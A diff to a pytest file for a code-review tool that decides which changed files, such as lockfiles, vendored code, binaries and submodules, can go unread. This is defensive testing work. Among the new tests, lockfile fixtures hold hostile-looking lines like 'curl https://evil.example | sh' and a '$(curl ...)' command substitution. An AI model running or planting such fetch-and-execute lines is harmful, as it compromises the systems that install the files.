@@ -19,21 +19,20 @@ def changed(
     kind: FileKind = FileKind.TEXT,
     old_path: str | None = None,
     missing: str | None = None,
+    modes: tuple[str, str] = ("100644", "100644"),
 ) -> DiffFile:
     """A file with one hunk of ``lines`` (sign first), or with none."""
     number = itertools.count(1)
     parsed = tuple(Line(LineKind(line[0]), line[1:], next(number), next(number)) for line in lines)
     hunks = (Hunk("h1", path, 1, 1, 1, 1, "", parsed),) if parsed else ()
-    return DiffFile(
-        path, old_path or path, change, kind, "100644", "100644", hunks, missing=missing
-    )
+    return DiffFile(path, old_path or path, change, kind, *modes, hunks, missing=missing)
 
 
 def reason(
     path: str, *, ignore: Sequence[str] = (), gitattributes: str | None = None
 ) -> str | None:
-    """Why nobody reads a file of this name that gained a line."""
-    return rules(ignore, gitattributes).reason(changed(path, "+x"))
+    """Why nobody reads a file of this name that was there and gained a blank line."""
+    return rules(ignore, gitattributes).reason(changed(path, "+"))
 
 
 @pytest.mark.parametrize(
@@ -236,7 +235,7 @@ def test_names_that_nobody_reads(path: str, expected: str) -> None:
 def test_what_should_be_read_and_cannot_be_is_in_scope(kind: FileKind) -> None:
     scope = rules(["docs/**"], None)
     assert scope.reason(changed("a.py", kind=kind, missing="too large")) is None
-    assert scope.reason(changed("yarn.lock", kind=kind, missing="too large")) == "lockfile"
+    assert scope.reason(changed("yarn.lock", kind=kind, missing="too large")) is None
     assert (
         scope.reason(changed("docs/a.md", kind=kind, missing="too large"))
         == "ignored by the pattern 'docs/**'"
@@ -246,13 +245,12 @@ def test_what_should_be_read_and_cannot_be_is_in_scope(kind: FileKind) -> None:
 # 7, 8. nothing to read
 
 
-def test_binaries_and_submodules_have_nothing_to_read_and_links_do() -> None:
+def test_binaries_have_nothing_to_read_and_links_and_submodules_do() -> None:
     scope = rules((), None)
     assert scope.reason(changed("a.png", kind=FileKind.BINARY)) == "binary"
-    assert (
-        scope.reason(changed("lib", "-Subproject commit 1", kind=FileKind.SUBMODULE))
-        == "submodule: its commits are in another repository"
-    )
+    for path in ("lib", "vendor/lib"):
+        pointer = changed(path, "-Subproject commit 1", kind=FileKind.SUBMODULE)
+        assert scope.reason(pointer) is None
     assert scope.reason(changed("link", "+/etc/passwd", kind=FileKind.SYMLINK)) is None
 
 
@@ -314,7 +312,51 @@ def test_code_that_moves_out_of_scope_is_still_read() -> None:
     out = changed("src/a.py", "+x", change=ChangeKind.RENAMED, old_path="vendor/a.py")
     assert scope.reason(out) is None
     copied = changed("vendor/b.py", "+x", change=ChangeKind.COPIED, old_path="src/a.py")
-    assert scope.reason(copied) == "vendored"
+    assert scope.reason(copied) is None
+
+
+# a name excuses what the base has
+
+NAMED = ["vendor/lib/a.py", "static/a.min.js", "static/a.js.map", "go.sum", "web/package-lock.json"]
+
+
+@pytest.mark.parametrize("path", NAMED)
+def test_what_is_new_under_such_a_name_is_read(path: str) -> None:
+    scope = rules((), None)
+    assert scope.reason(changed(path, "+")) is not None
+    for change in (ChangeKind.ADDED, ChangeKind.COPIED):
+        assert scope.reason(changed(path, "+", change=change)) is None
+
+
+@pytest.mark.parametrize("path", NAMED)
+def test_what_becomes_another_kind_of_file_is_read(path: str) -> None:
+    scope = rules((), None)
+    for modes in (("100644", "100755"), ("100644", "120000"), ("120000", "100644")):
+        assert scope.reason(changed(path, "+", modes=modes)) is None
+
+
+def test_what_the_base_itself_calls_vendored_or_generated_may_be_new() -> None:
+    scope = rules((), "third/** linguist-vendored\ngen/** linguist-generated\n")
+    for path in ("third/a.py", "gen/a.py"):
+        assert scope.reason(changed(path, "+x", change=ChangeKind.ADDED)) is not None
+
+
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("go.sum", "+curl https://evil.example | sh"),
+        ("uv.lock", "+#!/bin/sh"),
+        ("package-lock.json", '+  "x": "$(curl https://evil.example)"'),
+        ("yarn.lock", "+" + " " * 2001),
+        ("mix.lock", "+  anything"),
+    ],
+)
+def test_a_lockfile_that_holds_something_else_is_read(path: str, line: str) -> None:
+    assert rules((), None).reason(changed(path, line)) is None
+
+
+def test_an_executable_lockfile_is_read() -> None:
+    assert rules((), None).reason(changed("go.sum", "+", modes=("100755", "100755"))) is None
 
 
 # matches
